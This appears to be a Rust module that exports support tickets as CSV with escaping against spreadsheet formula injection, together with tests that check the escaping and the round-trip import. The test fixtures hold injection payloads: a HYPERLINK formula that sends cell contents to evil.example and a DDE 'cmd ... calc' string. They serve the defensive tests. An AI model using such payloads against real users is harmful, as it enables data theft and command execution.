//! Tickets as rows of a CSV file, which the import also accepts.

use std::borrow::Cow;

use chrono::{DateTime, SecondsFormat, Utc};
use csv::{Terminator, Writer, WriterBuilder};

use crate::proto::support::v1::ExportTicketsCsvResponse;
use crate::support::{
    formula,
    ticket::model::{Kind, Status, Ticket},
};
use mainstay_kernel::{
    contract::proto::google::api::HttpBody,
    error::{Error, Result},
};

/// The columns. The import reads those from `subject` to `tags`, and ignores the others.
const COLUMNS: [&str; 15] = [
    "id",
    "account_id",
    "requester_id",
    "assignee_id",
    "status",
    "create_time",
    "update_time",
    "resolve_time",
    "subject",
    "body",
    "type",
    "queue",
    "priority",
    "language",
    "tags",
];
const MEDIA_TYPE: &str = "text/csv; charset=utf-8; header=present";
/// Without a byte order mark, spreadsheets assume the charset of the system. The import skips it.
const BYTE_ORDER_MARK: &[u8] = b"\xef\xbb\xbf";
/// The size in bytes at which a piece ends. With its last row it is far below the 4 MB limit of gRPC clients.
const PIECE_BYTES: usize = 64 << 10;

/// A file whose rows are written page by page.
#[derive(Debug, Default)]
pub(super) struct File {
    has_header: bool,
}

impl File {
    /// Returns the next rows, with the header before the first ones.
    pub(super) fn pieces(&mut self, tickets: &[Ticket]) -> Result<Vec<ExportTicketsCsvResponse>> {
        let mut pieces = Vec::new();
        let mut rows = writer(Vec::new());
        if !std::mem::replace(&mut self.has_header, true) {
            rows = writer(BYTE_ORDER_MARK.to_vec());
            rows.write_record(COLUMNS).map_err(Error::internal)?;
        }
        for ticket in tickets {
            let row = row(ticket);
            rows.write_record(row.iter().map(|cell| formula::escape(cell).into_owned())).map_err(Error::internal)?;
            rows.flush().map_err(Error::internal)?;
            if rows.get_ref().len() >= PIECE_BYTES {
                pieces.push(piece(std::mem::replace(&mut rows, writer(Vec::new())))?);
            }
        }
        pieces.push(piece(rows)?);
        pieces.retain(|piece| piece.data.as_ref().is_some_and(|body| !body.data.is_empty()));
        Ok(pieces)
    }
}

/// Returns a writer in the format of RFC 4180.
fn writer(beginning: Vec<u8>) -> Writer<Vec<u8>> {
    WriterBuilder::new().terminator(Terminator::CRLF).from_writer(beginning)
}

fn piece(rows: Writer<Vec<u8>>) -> Result<ExportTicketsCsvResponse> {
    let data = rows.into_inner().map_err(|error| Error::internal(error.into_error()))?;
    let body = HttpBody { content_type: MEDIA_TYPE.to_owned(), data: data.into(), ..HttpBody::default() };
    Ok(ExportTicketsCsvResponse { data: Some(body) })
}

fn row(ticket: &Ticket) -> [String; COLUMNS.len()] {
    let content = &ticket.content;
    [
        ticket.id.to_string(),
        ticket.account.to_string(),
        ticket.requester.map(|id| id.to_string()).unwrap_or_default(),
        ticket.state.assignee().map(|id| id.to_string()).unwrap_or_default(),
        status(ticket.state.status()).to_owned(),
        time(ticket.created_at),
        time(ticket.updated_at),
        ticket.state.resolved_at().map(time).unwrap_or_default(),
        content.subject.clone(),
        content.body.clone(),
        kind(content.kind).to_owned(),
        content.queue.clone(),
        content.priority.name().to_owned(),
        content.language.to_string(),
        content.tags.iter().map(|tag| quoted(tag)).collect::<Vec<_>>().join(","),
    ]
}

/// Quotes a tag with a comma or a quote: the cell of tags is a record of CSV itself.
fn quoted(tag: &str) -> Cow<'_, str> {
    if tag.contains([',', '"']) { format!("\"{}\"", tag.replace('"', "\"\"")).into() } else { tag.into() }
}

fn time(time: DateTime<Utc>) -> String {
    time.to_rfc3339_opts(SecondsFormat::Micros, true)
}

fn status(status: Status) -> &'static str {
    match status {
        Status::Open => "open",
        Status::InProgress => "in progress",
        Status::Resolved => "resolved",
    }
}

fn kind(kind: Kind) -> &'static str {
    match kind {
        Kind::Incident => "Incident",
        Kind::Request => "Request",
        Kind::Problem => "Problem",
        Kind::Change => "Change",
    }
}

#[cfg(test)]
mod tests {
    use chrono::TimeZone as _;
    use mainstay_kernel::id::AccountId;

    use super::*;
    use crate::identity::user::model::Language;
    use crate::support::{
        import::model::{self, Format, ReadOptions},
        ticket::model::{Content, Priority},
    };

    fn content(subject: &str, body: &str, tags: &[&str]) -> Content {
        Content {
            subject: subject.to_owned(),
            body: body.to_owned(),
            kind: Kind::Problem,
            priority: Priority::Urgent,
            queue: "Billing, Payments".to_owned(),
            language: Language::parse("de-AT").expect("a tag"),
            tags: tags.iter().map(|&tag| tag.to_owned()).collect(),
            attachments: Vec::new(),
        }
    }

    fn tickets(contents: Vec<Content>) -> Vec<Ticket> {
        let now = Utc.with_ymd_and_hms(2030, 1, 2, 3, 4, 5).single().expect("a time");
        contents.into_iter().map(|content| Ticket::new(AccountId::generate(now), None, content, now)).collect()
    }

    fn file(pages: &[Vec<Ticket>]) -> (String, usize) {
        let mut file = File::default();
        let pieces = pages.iter().flat_map(|page| file.pieces(page).expect("memory")).collect::<Vec<_>>();
        let data = pieces.iter().flat_map(|piece| piece.data.as_ref().expect("a body").data.clone()).collect();
        let text = String::from_utf8(data).expect("UTF-8");
        let text = text.strip_prefix('\u{feff}').expect("a byte order mark");
        assert!(!text.contains('\u{feff}'), "one is enough");
        (text.to_owned(), pieces.len())
    }

    #[test]
    fn rows_are_those_of_rfc_4180() {
        let (text, _) = file(&[tickets(vec![content("A \"b\", c", "one\ntwo", &["x", "y z"])]), Vec::new()]);
        let (header, rows) = text.split_once("\r\n").expect("a header");
        assert_eq!(header, COLUMNS.join(","));
        let row = ",open,2030-01-02T03:04:05.000000Z,2030-01-02T03:04:05.000000Z,,\"A \"\"b\"\", c\",\"one\ntwo\",Problem,\
                   \"Billing, Payments\",urgent,de-AT,\"x,y z\"\r\n";
        assert!(rows.ends_with(row), "{rows}");
    }

    #[test]
    fn an_empty_export_has_a_header() {
        assert_eq!(file(&[Vec::new()]), (format!("{}\r\n", COLUMNS.join(",")), 1));
    }

    #[test]
    fn an_export_can_be_imported() {
        let contents = vec![
            content("=HYPERLINK(\"http://x\")", "-1\n@SUM(A1)", &["+1", "a"]),
            content("'=1", "+49 1234, \"hello\"", &[]),
            content("plain", "'quoted'", &["a", "b"]),
            content("a\u{a0} b", "b", &["two  spaces", "no\u{a0}break", "two spaces"]),
            content("C:\\new\\notes", "\\\\server\\new\\r\\n", &["x\\n"]),
            content("a  b", "\r\n one\r\ntwo\rthree\n\n ", &[]),
            content("＝1+1", "＠SUM(A1)\u{2028}；", &["＋", "\u{207a}1"]),
            content("\"", "a,\"b\"\n\"", &["'"]),
            content("x;=HYPERLINK(\"http://evil.example/?x=\"&A1;\"click\")", "hello\n=HYPERLINK(1)", &["a;\"=1"]),
            content("a", "b", &["Smith, John", "c", "\"", "5\" disk", ",", "a\"\",\"b"]),
            content("x;-2+3+cmd|' /C calc'!A0", "a\t@1\r\n'+1;＝1\n\"-1", &["b;=1", "'"]),
        ];
        let (text, _) = file(&tickets(contents.clone()).chunks(2).map(<[_]>::to_vec).collect::<Vec<_>>());
        assert!(text.contains("\"'=HYPERLINK(\"\"http://x\"\")\",\"'-1\n'@SUM"), "{text}");
        // No spreadsheet finds a formula, by whichever separator it reads the file.
        for separator in [b',', b';', b'\t'] {
            let mut rows = csv::ReaderBuilder::new().delimiter(separator).flexible(true).from_reader(text.as_bytes());
            let cells =
                rows.records().flat_map(|row| row.expect("UTF-8").iter().map(str::to_owned).collect::<Vec<_>>());
            let formulas: Vec<_> =
                cells.filter(|cell| cell.starts_with(['=', '+', '-', '@', '＝', '＋', '＠'])).collect();
            assert_eq!(formulas, [""; 0], "{}", char::from(separator));
        }
        let mut read = Vec::new();
        let each = |entry: model::Entry| {
            read.push(entry.row.expect("a good row").content);
            true
        };
        model::read(Format::Csv, ReadOptions::default(), text.as_bytes(), each).expect("a good file");
        assert_eq!(read, contents);
    }

    #[test]
    fn a_page_of_long_tickets_is_sent_in_pieces() {
        let long = "ä".repeat(20_000);
        let (text, pieces) = file(&[tickets(vec![content("long", &long, &[]); 50])]);
        assert_eq!((text.matches("long").count(), pieces), (50, 25), "a piece has two rows");
    }
}
